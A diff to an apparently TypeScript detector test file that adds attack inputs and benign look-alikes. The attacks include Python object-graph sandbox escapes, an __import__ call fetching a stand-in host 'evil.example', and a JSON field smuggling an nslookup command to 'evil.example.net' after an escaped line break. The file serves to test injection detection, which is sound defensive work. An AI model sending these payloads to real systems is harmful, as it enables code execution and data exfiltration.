@@ -56,6 +56,17 @@ const ATTACKS: Array<[string, Where | 'host', string]> = [
   ['systeminfo in a header', 'ua', 'systeminfo'],
   // PHP's self-report function handed over as a callback (`callback=phpcredits`).
   ['phpcredits as a callback', 'q', 'phpcredits'],
+  // Python's walk through its object graph, and `__import__` of a module then a call on it.
+  ['classes to subclasses', 'q', '().__class__.__base__.__subclasses__()'],
+  ['getattribute named by string (js2py)', 'form', 'b = h.__getattribute__\nobj = b("__class__").__base__'],
+  ["a function's globals", 'json', 'x.__init__.__globals__["os"]'],
+  ['__import__ then a call', 'q', "__import__('requests').get('http://evil.example/')"],
+  // A JSON document sent as one parameter: its strings are read one by one.
+  [
+    'a command after an escaped break in a JSON parameter',
+    'form',
+    '[{"PASSWORD":"asd\\r\\nnslookup.exe evil.example.net 1.1.1.1","PORT":"80"}]',
+  ],
 ];
 
 const BENIGN: Array<[string, Where | 'host', string]> = [
@@ -76,6 +87,11 @@ const BENIGN: Array<[string, Where | 'host', string]> = [
   ['the program capitalised as a title', 'q', 'Whoami'],
   ['a word-command alone', 'q', 'last'],
   ['a PHP credits page name with words', 'q', 'phpcredits page'],
+  ['a script run as the main module', 'q', 'if __name__ == "__main__":\n    main()'],
+  ["a class's name", 'q', 'def __init__(self):\n    print(self.__class__.__name__)'],
+  ["a tutorial's method resolution order", 'q', 'print(A.__mro__, A.__bases__)'],
+  ['__import__ of a module alone', 'q', "__import__('math')"],
+  ['a JSON parameter with a line break in a note', 'form', '[{"note":"line one\\r\\nline two","n":1}]'],
 ];
 
 const spec = (where: Where | 'host', v: string): TxSpec => (where === 'host' ? withHost(v) : at(where, v));
